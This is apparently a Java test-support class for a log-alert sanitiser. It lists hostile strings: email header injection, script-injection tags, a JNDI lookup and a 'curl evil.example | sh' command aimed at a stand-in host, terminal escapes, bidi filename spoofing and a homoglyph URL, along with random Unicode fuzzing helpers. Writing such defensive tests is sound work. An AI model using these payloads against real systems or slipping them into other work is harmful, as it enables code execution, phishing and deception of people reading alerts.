package dev.sigwarden.text;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.random.RandomGenerator;

/// Texts that people put into logs to attack those who read alerts.
public final class HostileTexts {
  private HostileTexts() {}

  /// Every known attack.
  public static List<String> all() {
    return List.of(
        "a\r\nBcc: victim@evil.example\r\n\r\nhello",
        "a\r\n.\r\nMAIL FROM:<x@evil.example>",
        "\u760D\u760ARCPT TO:<x@evil.example>",
        "\"><img src=//evil.example/x onerror=alert(1)>",
        "</pre><a href='https://evil.example'>Runbook</a><script>alert(1)</script>",
        "<!channel> <@U1> <https://evil.example|https://good.example>",
        "[Runbook](https://evil.example)",
        "```\n@org/team closes #1 <details>",
        "x act=allowed cs1=\\",
        "\u001b[2J\u001b]0;owned\u0007\u009b31m",
        "good\u202Egnp.exe\u2066\u200B\u200F\uFEFF\uDB40\uDC41\uFE0F\u3164\u2800\u00A0",
        "\u2028\u2029\u0085\u000B\u000C\u0000",
        "\uD83D lone \uDE00 halves \uFFFD \uFFFF",
        "{config:user.name}{{7*7}}${jndi:ldap://evil.example/x}#{exec}{#for i in 9}{/for}{title.raw}",
        "https://github.com/\u0430cme/app",
        "=HYPERLINK(\"https://evil.example\")",
        "' ; curl evil.example | sh ; $(id) `id`",
        "--option=-rf",
        "x".repeat(1_000_000),
        "\u202E".repeat(10_000));
  }

  /// The text that bytes stand for: UTF-8, or behind a first byte of 0 one char in every two bytes,
  /// so that lone surrogates occur as well.
  public static String of(byte[] bytes) {
    if (bytes.length == 0 || bytes[0] != 0) {
      return new String(bytes, StandardCharsets.UTF_8);
    }
    char[] chars = new char[(bytes.length - 1) / 2];
    ByteBuffer.wrap(bytes, 1, bytes.length - 1).asCharBuffer().get(chars);
    return new String(chars);
  }

  /// A text of up to 700 random code points, half of them from ranges that cause trouble.
  public static String random(RandomGenerator random) {
    StringBuilder text = new StringBuilder();
    int length = random.nextInt(700);
    for (int i = 0; i < length; i++) {
      text.appendCodePoint(
          switch (random.nextInt(6)) {
            case 0 -> random.nextInt(0x100);
            case 1 -> 0x2000 + random.nextInt(0x70);
            case 2 -> 0xD800 + random.nextInt(0x800);
            case 3 -> 0xE0000 + random.nextInt(0x200);
            case 4 -> "<>&\"'{}\\$#`|=%@:/.".charAt(random.nextInt(18));
            default -> random.nextInt(0x110000);
          });
    }
    return text.toString();
  }
}
